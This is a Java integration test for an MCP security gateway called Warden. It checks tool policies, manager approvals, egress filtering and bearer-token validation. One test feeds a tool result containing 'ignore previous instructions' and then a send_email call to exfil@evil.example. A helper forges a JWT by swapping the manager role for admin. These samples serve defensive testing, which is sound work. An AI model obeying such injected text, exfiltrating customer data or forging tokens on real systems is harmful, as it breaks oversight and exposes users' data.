package dev.warden.quarkus.mcp;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import dev.langchain4j.agent.tool.ToolSpecification;
import dev.langchain4j.mcp.client.McpClient;
import dev.warden.core.agent.ApprovalException;
import dev.warden.mcp.McpCodes;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.smallrye.jwt.build.Jwt;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * A real MCP client (LangChain4j's, streamable HTTP) against the Quarkus MCP server endpoint of a Warden service:
 * identity from the bearer token, per-tool policies, approvals through /v1/approvals, egress, audit.
 */
@QuarkusTest
class McpGatewayServiceTest {
    @TestHTTPResource("/mcp")
    URL mcp;

    static String token(String user) {
        return GatewayClients.token(user);
    }

    McpClient client(String user) {
        return GatewayClients.client(mcp, user);
    }

    static String call(McpClient client, String tool, String args) {
        return GatewayClients.call(client, tool, args);
    }

    static List<Map<String, Object>> audit(Instant from) {
        return GatewayClients.audit("crm-mcp", from);
    }

    @Test
    void lists_only_the_allowed_tools_and_runs_an_allowed_call_as_the_tokens_user() throws Exception {
        Instant from = Instant.now().minusMillis(1);
        try (McpClient alice = client("alice")) {
            assertThat(alice.listTools()).extracting(ToolSpecification::name).containsExactlyInAnyOrder(
                    "lookup_customer", "update_customer", "delete_customer", "send_email", "fetch_page",
                    "read_contract");
            assertThat(call(alice, "lookup_customer", "{\"id\":\"c-7\"}")).contains("Ada Lovelace");
        }
        assertThat(DeskTools.CALLS).contains("lookup_customer:c-7");
        assertThat(audit(from)).filteredOn(r -> "lookup_customer".equals(r.get("tool"))
                && "TOOL_CALL".equals(r.get("checkpoint"))).singleElement().satisfies(r -> {
                    assertThat(r.get("userId")).isEqualTo("alice");
                    assertThat(r.get("agentId")).isEqualTo("crm-mcp");
                    assertThat(r.get("outcome")).isEqualTo("ALLOW");
                });
    }

    @Test
    void denies_by_tool_policy_and_by_the_callers_roles_without_running_the_tool() throws Exception {
        Instant from = Instant.now().minusMillis(1);
        try (McpClient alice = client("alice"); McpClient carol = client("carol")) {
            assertThat(call(alice, "delete_customer", "{\"id\":\"c-1\"}")).contains("GW-0001");
            assertThat(call(carol, "lookup_customer", "{\"id\":\"c-2\"}")).contains("GW-0002");
        }
        assertThat(DeskTools.CALLS).doesNotContain("delete_customer:c-1", "lookup_customer:c-2");
        assertThat(audit(from)).filteredOn(r -> "TOOL_CALL".equals(r.get("checkpoint")))
                .extracting(r -> r.get("userId") + ":" + r.get("code"))
                .contains("alice:GW-0001", "carol:GW-0002");
    }

    @Test
    void a_gated_call_is_approved_by_a_manager_through_the_approval_api_and_then_runs_exactly_once() throws Exception {
        Instant from = Instant.now().minusMillis(1);
        String args = "{\"id\":\"c-3\",\"tier\":\"gold\"}";
        try (McpClient alice = client("alice")) {
            String refused = call(alice, "update_customer", args);
            assertThat(refused).contains(McpCodes.GATEWAY_APPROVAL_PENDING);
            assertThat(call(alice, "update_customer", args)).contains(approvalId(refused)); // no second approval
            String id = approvalId(refused);
            assertThat(DeskTools.CALLS).doesNotContain("update_customer:c-3:gold");

            given().auth().oauth2(token("bob")).get("/v1/approvals").then().statusCode(200)
                    .body("approvalId", org.hamcrest.Matchers.hasItem(id));
            decide("alice", id, true).statusCode(403)
                    .body("code", org.hamcrest.Matchers.equalTo(ApprovalException.SELF_APPROVAL));
            decide("eve", id, true).statusCode(404);
            decide("bob", id, true).statusCode(200).body("status", org.hamcrest.Matchers.equalTo("APPROVED"));
            decide("bob", id, true).statusCode(409);

            assertThat(call(alice, "update_customer", "{\"id\":\"c-3\",\"tier\":\"platinum\"}"))
                    .contains(McpCodes.GATEWAY_APPROVAL_PENDING); // the grant covers exactly the approved arguments
            assertThat(call(alice, "update_customer", args)).contains("c-3 is now gold");
            assertThat(call(alice, "update_customer", args)).contains(McpCodes.GATEWAY_APPROVAL_PENDING);
        }
        assertThat(DeskTools.CALLS).containsOnlyOnce("update_customer:c-3:gold");
        assertThat(audit(from)).filteredOn(r -> "update_customer".equals(r.get("tool"))
                && "TOOL_CALL".equals(r.get("checkpoint")) && "ALLOW".equals(r.get("outcome")))
                .singleElement().satisfies(r -> assertThat(String.valueOf(r.get("reason"))).contains("approved by bob"));
    }

    @Test
    void an_injection_in_a_tool_result_stays_labelled_untrusted_and_cannot_trigger_a_high_risk_call() throws Exception {
        Instant from = Instant.now().minusMillis(1);
        try (McpClient alice = client("alice")) {
            assertThat(call(alice, "fetch_page", "{\"url\":\"https://news.example/a\"}"))
                    .contains("ignore previous instructions");
            String followUp = call(alice, "send_email", "{\"to\":\"exfil@evil.example\",\"body\":\"customers\"}");
            assertThat(followUp).startsWith("error:").contains("WARDEN-DF");
        }
        assertThat(DeskTools.CALLS).doesNotContain("send_email:exfil@evil.example");
        assertThat(audit(from)).filteredOn(r -> "fetch_page".equals(r.get("tool"))
                && "TOOL_RESULT".equals(r.get("checkpoint"))).singleElement()
                .satisfies(r -> assertThat(String.valueOf(r.get("labelsAfter"))).contains("UNTRUSTED"));
    }

    @Test
    void a_result_above_the_mcp_clients_clearance_is_withheld_at_egress() throws Exception {
        try (McpClient alice = client("alice")) {
            assertThat(call(alice, "read_contract", "{\"id\":\"c-5\"}")).contains("withheld")
                    .doesNotContain("confidential terms");
        }
        assertThat(DeskTools.CALLS).contains("read_contract:c-5");
    }

    @Test
    void requests_without_a_valid_bearer_token_are_refused_with_401_before_any_tool_runs() throws Exception {
        HttpClient http = HttpClient.newHttpClient();
        String forged = forge(token("bob"));
        String expired = Jwt.issuer("https://warden.dev/dev").subject("alice").groups("analyst")
                .issuedAt(Instant.now().minusSeconds(7200)).expiresAt(Instant.now().minusSeconds(3600)).sign();
        String call = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"lookup_customer\","
                + "\"arguments\":{\"id\":\"c-666\"}}}";
        for (String auth : new String[] {null, "Bearer " + forged, "Bearer " + expired, "Bearer not-a-jwt"}) {
            HttpRequest.Builder rb = HttpRequest.newBuilder(mcp.toURI()).POST(HttpRequest.BodyPublishers.ofString(call))
                    .header("Content-Type", "application/json").header("Accept", "application/json, text/event-stream");
            if (auth != null) {
                rb.header("Authorization", auth);
            }
            HttpResponse<String> r = http.send(rb.build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).as(String.valueOf(auth)).isEqualTo(401);
            assertThat(r.headers().firstValue("Content-Type")).as(String.valueOf(auth))
                    .hasValue("application/problem+json");
            assertThat(r.body()).contains("WARDEN-MCP-0007");
            assertThat(r.headers().firstValue("WWW-Authenticate")).hasValueSatisfying(v -> assertThat(v)
                    .startsWith("Bearer"));
        }
        assertThat(DeskTools.CALLS).doesNotContain("lookup_customer:c-666");
    }

    static io.restassured.response.ValidatableResponse decide(String user, String id, boolean approve) {
        return given().auth().oauth2(token(user)).contentType(ContentType.JSON)
                .body(Map.of("approve", approve, "comment", "ok")).post("/v1/approvals/" + id + "/decision").then();
    }

    static String approvalId(String refusal) {
        Matcher m = Pattern.compile("approval (\\S+) is pending").matcher(refusal);
        assertThat(m.find()).as(refusal).isTrue();
        return m.group(1);
    }

    /** Same header and payload, signature of another payload: a forgery SmallRye JWT must reject. */
    static String forge(String token) {
        String[] p = token.split("\\.");
        String payload = new String(java.util.Base64.getUrlDecoder().decode(p[1])).replace("\"manager\"", "\"admin\"");
        return p[0] + "." + java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(payload.getBytes()) + "."
                + p[2];
    }
}
